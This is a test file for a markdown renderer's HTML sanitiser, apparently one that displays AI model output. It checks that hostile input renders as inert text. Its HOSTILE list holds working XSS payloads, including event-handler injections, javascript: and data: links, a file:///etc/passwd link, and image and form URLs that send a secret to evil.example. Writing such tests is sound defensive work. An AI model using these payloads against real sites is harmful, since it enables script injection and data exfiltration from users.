import "./testing-dom";
import { beforeEach, describe, expect, it } from "vitest";
import { LONGEST_FORMATTED, toNodes } from "./markdown";

let host: HTMLElement;

beforeEach(() => {
  host = document.createElement("div");
});

function show(text: string): HTMLElement {
  host.replaceChildren(toNodes(text));
  return host;
}

const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<script>alert(1)</script>",
  "<style>@import url(https://evil.example/x.css);</style>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![a](https://evil.example/p.png?q=SECRET)",
  "![a][r]\n\n[r]: https://evil.example/p.png?q=SECRET",
  '<img src="https://evil.example/p.png?q=SECRET">',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<video poster="https://evil.example/p.png"></video>',
  '<form action="https://evil.example"><button>x</button></form>',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.example"onmouseover="alert(1))',
  "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "<x\nonclick=alert(1)>",
];

const TAGS = new Set(
  "P BR HR H1 H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI STRONG EM DEL CODE PRE A TABLE THEAD TBODY TR TH TD".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(["href", "title", "target", "rel", "start", "align"]);

describe("the sanitiser", () => {
  it.each(HOSTILE)("lets nothing through that runs or loads: %s", (text) => {
    for (const element of show(text).querySelectorAll("*")) {
      expect(TAGS).toContain(element.tagName);
      for (const { name } of element.attributes) {
        expect(ATTRIBUTES).toContain(name);
      }
      const to = element.getAttribute("href");
      expect(to === null || /^(https?|mailto):/.test(to)).toBe(true);
    }
  });

  it.each(HOSTILE)("shows what it does not let through: %s", (text) => {
    expect(show(text).textContent?.trim()).not.toBe("");
  });

  it("shows HTML of a model as the text it is", () => {
    const text = "Use <b>bold</b> and <img src=x onerror=alert(1)> here.";
    expect(show(text).textContent).toBe(text);
  });

  it("shows the address of an image and does not fetch it", () => {
    const text = "![a chart](https://evil.example/p.png?q=SECRET)";
    expect(show(text).textContent).toBe(text);
    expect(host.querySelector("img")).toBeNull();
  });

  it("shows the address of a link that may not be one", () => {
    expect(show("[x](javascript:alert(1))").textContent).toBe("[x](javascript:alert(1))");
    expect(host.querySelector("a")).toBeNull();
  });

  it("makes links inert towards this page", () => {
    const link = show("[docs](https://example.org/a?b=c&d=e)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/a?b=c&d=e");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.title).toBe("https://example.org/a?b=c&d=e");
  });

  it("survives a text that makes the parser run out of stack", () => {
    const text = ">".repeat(5000);
    expect(show(text).textContent).toBe(text);
  });

  it("leaves an enormous block as plain text", () => {
    const text = "*a* ".repeat(LONGEST_FORMATTED);
    expect(show(text).textContent).toBe(text);
    expect(host.querySelector("em")).toBeNull();
  });
});

describe("formatting", () => {
  it("knows tables, lists, code and emphasis", () => {
    show("**b** *i* `c`\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|\n\n```py\nx = 1\n```\n");
    for (const tag of ["strong", "em", "code", "ul > li", "table td", "pre > code"]) {
      expect(host.querySelector(tag), tag).not.toBeNull();
    }
    expect(host.querySelector("pre")?.textContent).toBe("x = 1");
  });

  it("keeps the text of plain paragraphs to the letter", () => {
    const text = "One line\nand another.\n\nA second paragraph, with a  wide space.\n\n\nA third. ";
    expect(show(text).textContent).toBe(text);
  });
});
